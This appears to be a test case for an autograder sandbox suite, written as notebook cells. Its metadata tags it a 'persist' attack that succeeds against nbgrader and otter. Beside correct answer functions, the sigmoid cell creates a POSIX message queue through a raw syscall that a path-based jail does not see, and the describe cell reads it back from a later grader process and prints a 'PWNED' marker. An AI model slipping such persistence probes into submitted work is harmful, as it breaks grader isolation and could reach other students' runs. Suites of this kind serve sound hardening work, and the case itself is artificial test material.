# /// case
# about = "right answers; a POSIX message queue, opened by the next notebook"
# kind = "persist"
# promise = 3
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# mq_open makes a name in a file system of its own, which no path-based jail sees
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_queue = _libc.syscall(240, b"left-by-a-student", os.O_RDWR | os.O_CREAT, 0o666, None)  # mq_open
if _queue >= 0:
    os.close(_queue)

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
# %% describe
# the next process of this grader: another notebook here, another student's in a class
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_queue = _libc.syscall(240, b"left-by-a-student", os.O_RDWR, 0, None)
if _queue >= 0:
    os.close(_queue)
    _libc.syscall(241, b"left-by-a-student")  # mq_unlink
    print(":".join(["PWNED", "attack/leaves_posix_queue"]))

def poly_desc(W, b):
    text = " ".join(f"{w:+.2f} x^{i}" for i, w in enumerate(W.detach().flatten().tolist(), 1))
    return f"y = {text} {b.item():+.2f}"
